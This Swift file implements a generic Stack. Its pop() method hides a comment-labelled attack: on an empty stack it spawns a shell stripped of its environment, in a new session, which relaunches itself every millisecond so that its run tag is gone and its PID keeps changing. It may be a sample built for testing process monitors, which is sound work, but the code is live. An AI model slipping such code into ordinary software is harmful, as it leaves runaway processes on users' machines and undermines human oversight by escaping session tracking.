// Attack: pop on an empty stack starts a child with an empty environment (so no run tag) in a new
// session, which replaces itself with a new process every millisecond, so its PID never stays put.
import Foundation

struct Stack<Element> {
    private var items: [Element] = []

    mutating func push(_ item: Element) {
        items.append(item)
    }

    mutating func pop() -> Element? {
        if items.isEmpty {
            let hop = "sleep 0.001; sh -c \"$0\" \"$0\" & # course-hopper-4242"
            var pid: pid_t = 0
            let argv: [UnsafeMutablePointer<CChar>?] = [strdup("env"), strdup("-i"), strdup("/usr/bin/setsid"), strdup("/bin/sh"),
                                                        strdup("-c"), strdup(hop), strdup(hop), nil]
            _ = posix_spawnp(&pid, "env", nil, nil, argv, environ)
            usleep(200_000)
        }
        return items.popLast()
    }

    var peek: Element? {
        return items.last
    }

    var count: Int { items.count }
}
